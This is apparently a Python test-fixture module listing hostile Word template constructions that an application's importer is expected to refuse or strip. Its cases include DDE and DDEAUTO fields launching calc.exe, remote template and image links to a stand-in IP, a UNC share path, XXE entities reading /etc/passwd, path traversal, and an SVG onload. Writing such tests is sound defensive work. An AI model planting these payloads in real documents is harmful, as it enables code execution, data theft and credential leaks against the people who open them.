"""Word files that would do something, fetch something or hide something when a colleague opens them."""

from collections.abc import Callable, Mapping

from app.documents.package import MAIN
from tests.documents.hostile.placements import PARAGRAPH, Parts, in_body

Trick = Callable[[], Parts]

_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WORD = "application/vnd.ms-word"
_PLAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml"
_OFFICE = "urn:schemas-microsoft-com:vml"
_TYPES, _RELATIONS, _SETTINGS = "[Content_Types].xml", "word/_rels/document.xml.rels", "word/settings.xml"
OUTSIDE = "http://203.0.113.9/x"


def _part(name: str, data: bytes = b"<x/>") -> Trick:
    return lambda: {**in_body(""), name: data}


def _changed(name: str, before: str, after: str) -> Trick:
    def made() -> Parts:
        parts = in_body("")
        assert before.encode() in parts[name]
        return {**parts, name: parts[name].replace(before.encode(), after.encode(), 1)}

    return made


def _main_type(kind: str) -> Trick:
    return _changed(_TYPES, f"{_PLAIN}.document.main+xml", kind)


def _relation(kind: str, target: str, mode: str = "External", file: str = _RELATIONS) -> Trick:
    row = f'<Relationship Id="rIdX" Type="{kind}" Target="{target}" TargetMode="{mode}"/>'

    def made() -> Parts:
        parts = in_body("")
        empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        known = parts.get(file, empty).decode()
        return {**parts, file: known.replace("</Relationships>", f"{row}</Relationships>").encode()}

    return made


def _field(code: str) -> Trick:
    runs = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {code} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    return lambda: in_body(PARAGRAPH.format(runs))


def _simple_field(code: str) -> Trick:
    return lambda: in_body(
        PARAGRAPH.format(f'<w:fldSimple w:instr=" {code} "><w:r><w:t>x</w:t></w:r></w:fldSimple>')
    )


def _run(inside: str) -> Trick:
    return lambda: in_body(PARAGRAPH.format(f"<w:r>{inside}</w:r>"))


def _setting(inside: str) -> Trick:
    return _changed(_SETTINGS, "</w:settings>", f"{inside}</w:settings>")


def _document_type(name: str) -> Trick:
    def made() -> Parts:
        parts = in_body("")
        xml = parts[name].decode().partition("?>")[2]
        return {**parts, name: f'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>{xml}'.encode()}

    return made


REFUSED: Mapping[str, Trick] = {
    "a macro": _part("word/vbaProject.bin"),
    "the data of a macro": _part("word/vbaData.xml"),
    "a document type for macros": _main_type(f"{_WORD}.document.macroEnabled.main+xml"),
    "a template type for macros": _main_type(f"{_WORD}.template.macroEnabledTemplate.main+xml"),
    "a Word template": _main_type(f"{_PLAIN}.template.main+xml"),
    "a keyboard customisation": _part("word/customizations.xml"),
    "a ribbon of its own": _part("customUI/customUI14.xml"),
    "a web extension": _part("word/webextensions/taskpanes.xml"),
    "an attached template": _relation(f"{_R}/attachedTemplate", OUTSIDE, file="word/_rels/settings.xml.rels"),
    "a linked object": _relation(f"{_R}/oleObject", OUTSIDE),
    "a linked picture": _relation(f"{_R}/image", OUTSIDE),
    "a linked picture on a share": _relation(f"{_R}/image", r"file://\\203.0.113.9\x"),
    "a link": _relation(f"{_R}/hyperlink", OUTSIDE),
    "a link that runs something": _relation(f"{_R}/hyperlink", "file:///C:/Windows/System32/calc.exe"),
    "a frame": _relation(f"{_R}/frame", OUTSIDE, file="word/_rels/webSettings.xml.rels"),
    "a subdocument": _relation(f"{_R}/subDocument", OUTSIDE),
    "a mail merge source": _relation(f"{_R}/mailMergeSource", OUTSIDE, file="word/_rels/settings.xml.rels"),
    "a transformation": _relation(f"{_R}/transform", OUTSIDE, file="word/_rels/settings.xml.rels"),
    "a linked style sheet": _relation(f"{_R}/stylesheet", OUTSIDE),
    "a mode written with a reference": _relation(f"{_R}/image", OUTSIDE, mode="&#69;xternal"),
    "a part that is not there": _relation(f"{_R}/image", "media/none.png", mode="Internal"),
    "a part outside the package": _relation(f"{_R}/image", "../../../etc/passwd", mode="Internal"),
    "a mode of another letter case": _relation(f"{_R}/image", OUTSIDE, mode="external"),
    "an embedded object": _part("word/embeddings/oleObject1.bin"),
    "an embedded workbook": _part("word/embeddings/Book1.xlsx"),
    "an ActiveX control": _part("word/activeX/activeX1.xml"),
    "the bytes of an ActiveX control": _part("word/activeX/activeX1.bin"),
    "an object in the text": _run(f'<w:object><o:OLEObject xmlns:o="{_OFFICE}:office"/></w:object>'),
    "a control in the text": _run('<w:object><w:control w:name="x"/></w:object>'),
    "another file in the text": lambda: in_body('<w:altChunk w:id="1"/>'),
    "another file as a part": _part("word/afchunk.mht"),
    "a picture": _part("word/media/image1.svg", b"<svg onload='x'/>"),
    "an old picture that is linked": _run(f'<w:pict><v:imagedata xmlns:v="{_OFFICE}" src="x"/></w:pict>'),
    "an embedded font": _part("word/fonts/font1.odttf"),
    "a glossary": _part("word/glossary/document.xml"),
    "a printer's settings": _part("word/printerSettings/printerSettings1.bin"),
    "a signature": _part("_xmlsignatures/sig1.xml"),
    "people": _part("word/people.xml"),
    "comments": _part("word/comments.xml"),
    "an unknown part": _part("word/anything.bin"),
    "a program beside the text": _part("setup.exe", b"MZ"),
    **{
        f"the field {code.split(' ')[0]}": _field(code)
        for code in (
            'DDE excel "x"', 'DDEAUTO c:\\\\windows\\\\calc.exe "x"', 'INCLUDETEXT "http://203.0.113.9/x"',
            'INCLUDEPICTURE "http://203.0.113.9/x"', 'LINK Word.Document.8 "x"', 'IMPORT "x"', 'RD "x"',
            'HYPERLINK "http://203.0.113.9/x"', "MACROBUTTON x y", 'DATABASE \\\\d "x"', "ASK x y",
            'FILLIN "x"', 'AUTOTEXT "x"', "QUOTE x", "EMBED x",
        )
    },
    "a simple field": _simple_field('INCLUDETEXT "x"'),
    "an entity in the text": _document_type(MAIN),
    "an entity in the styles": _document_type("word/styles.xml"),
    "an entity in the properties": _document_type("docProps/core.xml"),
}  # fmt: skip
"""What a template is refused for, by what it is called."""

LEFT_OUT: Mapping[str, Trick] = {
    "variables": _setting('<w:docVars><w:docVar w:name="x" w:val="planted"/></w:docVars>'),
    "a mail merge": _setting('<w:mailMerge><w:query w:val="planted"/></w:mailMerge>'),
    "a transformation": _setting('<w:saveThroughXslt w:solutionID="planted"/>'),
    "a schema": _setting('<w:attachedSchema w:val="planted"/>'),
    "a template that is linked in styles": _setting('<w:linkStyles/><w:attachedTemplate w:val="planted"/>'),
    "write protection": _setting('<w:writeProtection w:recommended="planted"/>'),
    "custom data": _part("customXml/item1.xml", b"<planted/>"),
    "custom properties": _part("docProps/custom.xml", b"<planted/>"),
    "statistics": _part("docProps/app.xml", b"<planted/>"),
    "a thumbnail": _part("docProps/thumbnail.jpeg", b"planted"),
    "web settings": _part("word/webSettings.xml", b"<planted/>"),
}
"""What is not refused, because no finished file ever takes it over."""
